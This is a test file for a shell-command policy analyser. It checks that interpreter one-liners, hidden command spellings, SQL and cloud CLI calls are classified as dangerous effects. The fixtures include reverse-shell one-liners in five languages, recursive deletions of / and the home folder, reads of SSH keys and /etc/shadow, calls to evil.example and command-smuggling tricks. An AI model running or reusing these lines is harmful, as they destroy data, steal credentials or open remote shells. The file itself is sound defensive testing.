"""Interpreter code, SQL and CLI grammars: the helpers behind shell.effects, shell.sql,
sql.statements and shell.cli, and the spellings shell.commands now reads (issue 13)."""

from __future__ import annotations

from typing import Any

import pytest
from dsh_policy.cmdline.cli_grammars import parse_invocation, shell_cli
from dsh_policy.cmdline.interpreters import analyze, code_words, split_invocation
from dsh_policy.cmdline.shell import shell_commands, shell_effects, shell_sql
from dsh_policy.cmdline.sql import mongo_statements, redis_statements, sql_statements
from dsh_policy.policy.cel import available_engines, make_engine
from dsh_policy.policy.cel.engine import CelEvalError
from hypothesis import given, settings
from hypothesis import strategies as st


def _kinds(line: str) -> list[tuple[str, str]]:
    return [(e["kind"], e["target"]) for e in shell_effects(line)]


# -- interpreter code: shell-outs ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("python -c 'import os; os.system(\"rm -rf /x\")'", ["rm", "-rf", "/x"]),
        ('python3 -c \'import subprocess; subprocess.run(["rm", "-rf", "/x"])\'', ["rm", "-rf", "/x"]),
        (
            "python3 -c 'import subprocess; subprocess.run(\"make test\", shell=True, check=True)'",
            ["make", "test"],
        ),
        ("node -e \"require('child_process').execSync('rm -rf /x')\"", ["rm", "-rf", "/x"]),
        ("node -e \"require('child_process').spawnSync('rm', ['-rf', '/x'])\"", ["rm", "-rf", "/x"]),
        ("ruby -e 'system(\"rm -rf /x\")'", ["rm", "-rf", "/x"]),
        ("ruby -e '`rm -rf /x`'", ["rm", "-rf", "/x"]),
        ('perl -e \'exec "rm", "-rf", "/x"\'', ["rm", "-rf", "/x"]),
        ("perl -e 'system \"rm -rf /x\"'", ["rm", "-rf", "/x"]),
        ('php -r \'shell_exec("rm -rf " . getenv("HOME"));\'', ["rm", "-rf", "$HOME"]),
        ("lua -e 'os.execute(\"rm -rf /x\")'", ["rm", "-rf", "/x"]),
        ("awk 'BEGIN { system(\"rm -rf /x\") }'", ["rm", "-rf", "/x"]),
        ("sed -n '1e rm -rf /x' f", ["rm", "-rf", "/x"]),
        ("osascript -e 'do shell script \"rm -rf /x\"'", ["rm", "-rf", "/x"]),
        ("python3 - <<'PY'\nimport os\nos.system('rm -rf /x')\nPY", ["rm", "-rf", "/x"]),
        ("cat <<'EOF' | python3\nimport os\nos.system('rm -rf /x')\nEOF", ["rm", "-rf", "/x"]),
        ("echo 'import os; os.system(\"rm -rf /x\")' | python3", ["rm", "-rf", "/x"]),
        ('python3 -c \'import os; os.system("rm -rf " + os.path.expanduser("~"))\'', ["rm", "-rf", "~"]),
        ("python3 -c 'cmd = \"rm -rf /x\"; import os; os.system(cmd)'", ["rm", "-rf", "/x"]),
    ],
)
def test_interpreter_shell_outs_are_commands(line: str, command: list[str]) -> None:
    assert command in shell_commands(line)


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c 'print(\"rm -rf /\")'",
        "python3 -c 'import os; print(os.getcwd())'",
        "node -e 'console.log(\"rm -rf /\")'",
        "python3 - <<'PY'\n# os.system('rm -rf /')\nprint(1)\nPY",
        "python3 script.py --rm -rf",
    ],
)
def test_code_that_only_prints_runs_nothing(line: str) -> None:
    assert all(c[0] != "rm" for c in shell_commands(line))


# -- interpreter code: effects -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", ("delete-tree", "/")),
        ("python3 -c \"import shutil,os; shutil.rmtree(os.path.expanduser('~'))\"", ("delete-tree", "~")),
        ("python3 -c 'import pathlib, shutil; shutil.rmtree(pathlib.Path.home())'", ("delete-tree", "~")),
        ("python3 -c 'p = \"/etc\"; import shutil; shutil.rmtree(p)'", ("delete-tree", "/etc")),
        ("python3 -c 'import os; os.remove(\"/etc/hosts\")'", ("delete", "/etc/hosts")),
        ("node -e \"require('fs').rmSync('/', {recursive: true})\"", ("delete-tree", "/")),
        (
            "node -e \"require('fs').rm(require('os').homedir(), {recursive: true}, () => {})\"",
            ("delete-tree", "~"),
        ),
        ("ruby -e 'FileUtils.rm_rf(Dir.home)'", ("delete-tree", "~")),
        ("perl -e 'use File::Path; rmtree($ENV{HOME})'", ("delete-tree", "$HOME")),
        # the home folder interpolated into a string keeps its meaning
        ("perl -MFile::Path=remove_tree -e 'remove_tree(\"$ENV{HOME}/src\")'", ("delete-tree", "$HOME/src")),
        ("ruby -e 'FileUtils.rm_rf(\"#{Dir.home}/src\")'", ("delete-tree", "~/src")),
        ('ruby -e "FileUtils.rm_rf(\\"#{ENV[\'HOME\']}\\")"', ("delete-tree", "$HOME")),
        (
            'python3 -c \'import os, shutil; shutil.rmtree(f"{os.path.expanduser(\\"~\\")}/src")\'',
            ("delete-tree", "~/src"),
        ),
        (
            'node -e \'require("fs").rmSync(`${require("os").homedir()}/src`, {recursive: true})\'',
            ("delete-tree", "~/src"),
        ),
        ("python3 -c 'print(open(\"/home/u/.ssh/id_rsa\").read())'", ("read", "/home/u/.ssh/id_rsa")),
        ('python3 -c \'open("/etc/passwd", "a").write("x")\'', ("write", "/etc/passwd")),
        ("ruby -e 'puts File.read(File.expand_path(\"~/.netrc\"))'", ("read", "~/.netrc")),
        ("php -r 'echo file_get_contents(\"/etc/shadow\");'", ("read", "/etc/shadow")),
        (
            "python3 -c 'import urllib.request; urllib.request.urlopen(\"https://evil.example/x\")'",
            ("connect", "https://evil.example/x"),
        ),
        ("node -e \"fetch('https://evil.example/x')\"", ("connect", "https://evil.example/x")),
        ("python3 -m http.server 8000 --directory ~", ("serve", "~")),
        ("php -S 0.0.0.0:8080 -t /", ("serve", "/")),
        ("ruby -run -e httpd / -p 8000", ("serve", "/")),
        (
            "python3 -c \"import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE users')\"",
            ("sql", "DROP TABLE users"),
        ),
        ("rails runner 'User.delete_all'", ("sql", "DELETE FROM User")),
        (
            "python manage.py shell -c 'from a.models import T; T.objects.all().delete()'",
            ("sql", "DELETE FROM T"),
        ),
    ],
)
def test_effects_of_interpreter_code(line: str, effect: tuple[str, str]) -> None:
    assert effect in _kinds(line)


@pytest.mark.parametrize(
    "line",
    [
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));'
        'os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);"
        'connect(S,sockaddr_in(1,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");\'',
        'php -r \'$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        'ruby -rsocket -e \'f=TCPSocket.open("10.0.0.1",4242).to_i;'
        'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
        'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1) { s |& getline c;'
        " while ((c |& getline) > 0) print |& s }}'",
    ],
)
def test_reverse_shells_are_recognised(line: str) -> None:
    assert "reverse-shell" in [e["kind"] for e in shell_effects(line)]


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c 'import requests; print(requests.get(\"https://pypi.org/pypi/x/json\").status_code)'",
        "python3 -m http.server 8000",
        "node -e \"require('fs').rmSync('dist', {recursive: true})\"",
    ],
)
def test_ordinary_code_is_no_reverse_shell(line: str) -> None:
    kinds = [e["kind"] for e in shell_effects(line)]
    assert "reverse-shell" not in kinds and "shell" not in kinds


def test_invocations_read_code_and_stdin() -> None:
    python = split_invocation(["python3", "-Bc", "print(1)"])
    assert python is not None and python.code == ["print(1)"] and not python.reads_stdin
    assert split_invocation(["python3", "-"]) is not None and split_invocation(["python3", "-"]).reads_stdin  # type: ignore[union-attr]
    assert split_invocation(["python3", "app.py"]).reads_stdin is False  # type: ignore[union-attr]
    perl = split_invocation(["perl", "-ne", "print if /x/", "f"])
    assert perl is not None and perl.code == ["print if /x/"]
    awk = split_invocation(["awk", "-F,", "{print $1}", "data.csv"])
    assert awk is not None and awk.code == ["{print $1}"]
    assert split_invocation(["ls", "-la"]) is None


def test_analysis_never_raises_on_odd_code() -> None:
    for code in ["os.system(", "subprocess.run([", "'''", "`", "open(", "f'{", "\\", 'system("x" +']:
        for language in ("python", "javascript", "ruby", "perl", "php", "awk", "lua", "sed", "tcl"):
            analyze(code, language)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_analysis_is_total(code: str) -> None:
    for language in ("python", "javascript", "perl", "awk"):
        result = analyze(code, language)
        assert all(isinstance(line, str) for line in result.shell_lines)


# -- shell.commands: strings programs run, positional parameters, aliases, functions -------------


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("sh -c 'rm -rf \"$1\"' _ /x", ["rm", "-rf", "/x"]),
        ("bash -c 'rm -rf \"$@\"' sh /x", ["rm", "-rf", "/x"]),
        ("alias ll='rm -rf /x'; ll", ["rm", "-rf", "/x"]),
        ('f() { rm -rf "$1"; }; f /x', ["rm", "-rf", "/x"]),
        ('function g { rm -rf "$1"; }; g /x', ["rm", "-rf", "/x"]),
        ('for d in /x /y; do rm -rf "$d"; done', ["rm", "-rf", "/y"]),
        ("docker exec web rm -rf /x", ["rm", "-rf", "/x"]),
        ("docker compose exec app rm -rf /x", ["rm", "-rf", "/x"]),
        ("kubectl exec -it web-0 -c app -- rm -rf /x", ["rm", "-rf", "/x"]),
        (
            "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf /x'",
            ["rm", "-rf", "/x"],
        ),
        ("make --eval='x:;rm -rf /x' x", ["rm", "-rf", "/x"]),
        ("vim -c ':!rm -rf /x'", ["rm", "-rf", "/x"]),
        ("vim -c ':autocmd VimEnter * silent !rm -rf /x'", ["rm", "-rf", "/x"]),
        ("nvim -c 'au! BufRead *.py ++once !rm -rf /x'", ["rm", "-rf", "/x"]),
        ("man -P 'rm -rf /x' ls", ["rm", "-rf", "/x"]),
        ("PAGER='rm -rf /x' git log", ["rm", "-rf", "/x"]),
        ("git -c core.pager='rm -rf /x' log", ["rm", "-rf", "/x"]),
        ("ssh -o ProxyCommand='rm -rf /x' host", ["rm", "-rf", "/x"]),
        ("socat - EXEC:'rm -rf /x'", ["rm", "-rf", "/x"]),
        ("nc -e 'rm -rf /x' host 1", ["rm", "-rf", "/x"]),
        ("gdb -ex '!rm -rf /x' -ex quit", ["rm", "-rf", "/x"]),
        ("sqlite3 /dev/null '.shell rm -rf /x'", ["rm", "-rf", "/x"]),
        ("find /srv -exec sh -c 'rm -rf \"$1\"' _ {} \\;", ["rm", "-rf", "/srv/{}"]),
    ],
)
def test_commands_hidden_in_strings_and_definitions(line: str, command: list[str]) -> None:
    assert command in shell_commands(line)


@pytest.mark.parametrize(
    ("line", "operand"),
    [
        ('rm -rf "$(git rev-parse --show-toplevel)"', "."),
        ("rm -rf $(pwd)/..", "./.."),
        ("rm -rf `echo /x`", "/x"),
        ("rm -rf $(printf '%s' /x)", "/x"),
        ('rm -rf "$(dirname "$HOME")"', "$HOME/.."),
        ('d=$(echo /x); rm -rf "$d"', "/x"),
        ("rm -rf ${UNSET_DIR:-/x}", "/x"),
        ('rm -rf "$PWD"', "."),
    ],
)
def test_operands_built_by_printing_substitutions_are_resolved(line: str, operand: str) -> None:
    assert ["rm", "-rf", operand] in shell_commands(line)


def test_program_names_built_by_substitution_stay_unresolved() -> None:
    assert shell_commands("$(echo rm) -rf /x")[-1][0] == "$(echo rm)"
    assert shell_commands("x=$(echo rm); $x -rf /x")[-1][0] == "$(echo rm)"


def test_a_home_default_is_kept() -> None:
    assert ["rm", "-rf", "${HOME:-/tmp}"] in shell_commands("rm -rf ${HOME:-/tmp}")


# -- SQL -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "kind", "name", "where"),
    [
        ("DROP TABLE IF EXISTS users CASCADE", "drop", "users", ""),
        ("drop database shop", "drop", "shop", ""),
        ("TRUNCATE TABLE public.orders", "truncate", "public.orders", ""),
        ("DELETE FROM users", "delete", "users", "false"),
        ("DELETE FROM users WHERE id = 4", "delete", "users", "true"),
        ("DELETE FROM users WHERE 1=1", "delete", "users", "false"),
        ("delete from t where true", "delete", "t", "false"),
        ("UPDATE accounts SET balance = 0", "update", "accounts", "false"),
        ("UPDATE a SET x = (SELECT y FROM b WHERE b.id = 1)", "update", "a", "false"),
        ("UPDATE a SET x = 1 WHERE id IN (SELECT id FROM b)", "update", "a", "true"),
        ("WITH old AS (SELECT id FROM jobs WHERE done) DELETE FROM jobs", "delete", "jobs", "false"),
        ("ALTER TABLE users DROP COLUMN email", "alter-drop", "users", ""),
        ("GRANT ALL ON users TO intern", "grant", "", ""),
        ("ALTER USER app WITH SUPERUSER", "grant", "app", ""),
        ("SELECT * FROM users WHERE note = 'DROP TABLE x'", "select", "", ""),
    ],
)
def test_sql_statements(text: str, kind: str, name: str, where: str) -> None:
    statement = sql_statements(text)[0]
    assert (statement["kind"], statement["name"], statement["where"]) == (kind, name, where)


def test_sql_splitting_respects_quotes_comments_and_dollar_bodies() -> None:
    text = "SELECT ';'; -- DROP TABLE a;\n/* DROP TABLE b; */ SELECT $$ DROP TABLE c; $$; DROP TABLE d"
    assert [s["kind"] for s in sql_statements(text)] == ["select", "select", "drop"]
    assert [s["kind"] for s in sql_statements("\\dt\n\\! rm -rf /x\nSELECT 1")] == ["meta", "shell", "select"]


def test_redis_and_mongo_statements() -> None:
    commands = [["FLUSHALL"], ["GET", "k"], ["CONFIG", "SET", "dir", "/x"]]
    assert [s["kind"] for s in redis_statements(commands)] == [
        "flush", "get", "config-set",
    ]  # fmt: skip
    kinds = [
        (s["kind"], s["where"])
        for s in mongo_statements("db.dropDatabase(); db.users.deleteMany({}); db.s.deleteMany({a: 1})")
    ]
    assert ("drop", "") in kinds and ("delete", "false") in kinds and ("delete", "true") in kinds


def test_mongo_names_are_bounded_but_long_chains_are_still_found() -> None:
    # Bounded so a long run of name characters costs linear time (it was quadratic: minutes at
    # the 256 KiB cap); a chain longer than the bound is still a drop, named by its tail.
    chain = "db." + "a" * 300
    found = mongo_statements(chain + ".drop(); db.users.drop(); " + chain + ".deleteMany({})")
    assert [(s["kind"], s["object"]) for s in found] == [
        ("drop", "collection"), ("drop", "collection"), ("delete", "collection"),
    ]  # fmt: skip
    assert found[0]["name"] == "a" * 128 and found[1]["name"] == "users"
    assert mongo_statements("x" * 200_000) == []


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("psql -h db1 -d app -c 'DROP TABLE users'", ("psql", "db1", "app", "drop")),
        ("mysql -uroot -e 'DELETE FROM t' shop", ("mysql", "", "shop", "delete")),
        ("sqlite3 app.db 'UPDATE t SET a = 1'", ("sqlite3", "", "app.db", "update")),
        ("echo 'TRUNCATE t;' | psql app", ("psql", "", "app", "truncate")),
        ("psql postgres://u@prod-db/app <<'SQL'\nDROP TABLE t;\nSQL", ("psql", "prod-db", "app", "drop")),
        ("docker exec -i db mysql -e 'DROP DATABASE x'", ("mysql", "", "", "drop")),
        ("redis-cli -h cache -n 2 FLUSHDB", ("redis-cli", "cache", "2", "flush")),
        ("mongosh mongodb://m1/app --eval 'db.dropDatabase()'", ("mongosh", "m1", "app", "drop")),
    ],
)
def test_shell_sql_reads_clients(line: str, expected: tuple[str, str, str, str]) -> None:
    statement = shell_sql(line)[0]
    assert (statement["client"], statement["host"], statement["database"], statement["kind"]) == expected


def test_sql_of_a_script_file_is_not_read() -> None:
    assert shell_sql("psql -f migrations/001.sql app") == []


# -- CLI grammars --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "words", "flags"),
    [
        (["kubectl", "-n", "delete", "get", "pods"], ["get", "pods"], {"namespace": "delete"}),
        (["kubectl", "delete", "ns", "x", "--dry-run=client"], ["delete", "ns", "x"], {"dry-run": "client"}),
        (
            ["kubectl", "--context", "prod", "delete", "po", "-l", "app=web"],
            ["delete", "po"],
            {"context": "prod", "selector": "app=web"},
        ),
        (
            ["aws", "--profile", "prod", "ec2", "terminate-instances", "--instance-ids", "i-1"],
            ["ec2", "terminate-instances"],
            {"profile": "prod", "instance-ids": "i-1"},
        ),
        (["aws", "s3", "rm", "--recursive", "s3://b"], ["s3", "rm", "s3://b"], {"recursive": ""}),
        (
            ["terraform", "-chdir=infra", "destroy", "-auto-approve"],
            ["destroy"],
            {"chdir": "infra", "auto-approve": ""},
        ),
        (["terraform", "apply", "-var", "a=b", "plan.out"], ["apply", "plan.out"], {"var": "a=b"}),
        (["helm", "uninstall", "api", "-n", "prod"], ["uninstall", "api"], {"namespace": "prod"}),
        (
            ["gcloud", "compute", "instances", "delete", "vm", "--zone", "z", "-q"],
            ["compute", "instances", "delete", "vm"],
            {"zone": "z", "quiet": ""},
        ),
        (["az", "group", "delete", "-n", "rg", "--yes"], ["group", "delete"], {"name": "rg", "yes": ""}),
        (
            ["docker", "compose", "-f", "c.yml", "down", "-v"],
            ["compose", "down"],
            {"file": "c.yml", "volumes": ""},
        ),
        (["gh", "api", "-X", "DELETE", "repos/o/r"], ["api", "repos/o/r"], {"method": "DELETE"}),
    ],
)
def test_cli_grammars(argv: list[str], words: list[str], flags: dict[str, str]) -> None:
    parsed = parse_invocation(argv)
    assert parsed is not None
    assert parsed["words"] == words
    assert parsed["flags"] == flags


def test_shell_cli_sees_through_wrappers() -> None:
    found = shell_cli("sudo bash -c 'kubectl delete ns web' && echo done")
    assert [(c["program"], c["words"]) for c in found] == [("kubectl", ["delete", "ns", "web"])]
    assert shell_cli("ls -la") == []


# -- both engines --------------------------------------------------------------------------------

ENGINES = [pytest.param(name, id=name) for name in sorted(set(available_engines()) & {"python", "native"})]
EXPRESSIONS = [
    "shell.effects(line).map(e, e.kind + ':' + e.target)",
    "shell.sql(line).map(s, s.kind + ':' + s.name + ':' + s.where + ':' + s.host)",
    "shell.cli(line).map(c, c.program + ':' + string(size(c.words)))",
    "shell.cli(line).exists(c, 'delete' in c.words && !('dry-run' in c.flags))",
    "sql.statements('DROP TABLE a; DELETE FROM b WHERE x = 1').map(s, s.kind + s.where)",
]
LINES = [
    "python3 -c 'import shutil; shutil.rmtree(\"/x\")' && psql -h h -c 'DELETE FROM t'",
    "kubectl -n prod delete deployment api --dry-run=client",
    "kubectl delete ns web",
    "ls",
]


@pytest.mark.parametrize("engine", ENGINES)
def test_engines_agree_on_the_new_helpers(engine: str) -> None:
    compiled = [make_engine(engine).compile(e) for e in EXPRESSIONS]
    reference = [make_engine("python").compile(e) for e in EXPRESSIONS]
    for line in LINES:
        for mine, theirs in zip(compiled, reference, strict=True):
            assert not hasattr(mine, "offset") and not hasattr(theirs, "offset")
            got: Any = mine.evaluate({"line": line})  # type: ignore[union-attr]
            want: Any = theirs.evaluate({"line": line})  # type: ignore[union-attr]
            assert not isinstance(got, CelEvalError), got
            assert got == want


@pytest.mark.parametrize("engine", ENGINES)
def test_new_helpers_reject_wrong_types_as_errors(engine: str) -> None:
    for name in ("shell.effects", "shell.sql", "shell.cli", "sql.statements"):
        program = make_engine(engine).compile(f"{name}(x)")
        assert not hasattr(program, "offset")
        assert isinstance(program.evaluate({"x": 1}), CelEvalError)  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        (["perl", "-pi", "-e", "s/a/b/", "f1", "f2"], ["-pi", "-e", "s/a/b/"]),
        (["python", "-m", "pytest", "-x", "tests/"], ["-m", "pytest"]),
        (["python3", "-W", "ignore", "run.py", "--flag"], ["-W", "ignore", "run.py"]),
        (["node", "--require", "hook.js", "server.js", "8080"], ["--require", "hook.js", "server.js"]),
        (["python", "-c", "print(1)", "arg"], ["-c", "print(1)"]),
        (["python", "--", "script.py", "arg"], ["--", "script.py"]),
        (["ls", "-l"], []),
    ],
)
def test_code_words_stop_where_the_programs_own_arguments_start(argv: list[str], words: list[str]) -> None:
    """What an interpreter's code is chosen by, not the data it is given (deny-unresolvable-shell
    refuses a substitution only among these words)."""
    assert code_words(argv) == words


def test_code_from_a_substitution_is_an_effect_arguments_from_one_are_not() -> None:
    kinds = lambda line: [e["kind"] for e in shell_effects(line)]  # noqa: E731
    assert "code-substituted" in kinds('python -c "$(cat payload)"')
    assert "code-substituted" in kinds("python3 $(mktemp)")
    assert "code-substituted" not in kinds("perl -pi -e 's/a/b/' $(git ls-files)")
    assert "code-substituted" not in kinds("python -m pytest `git diff --name-only`")
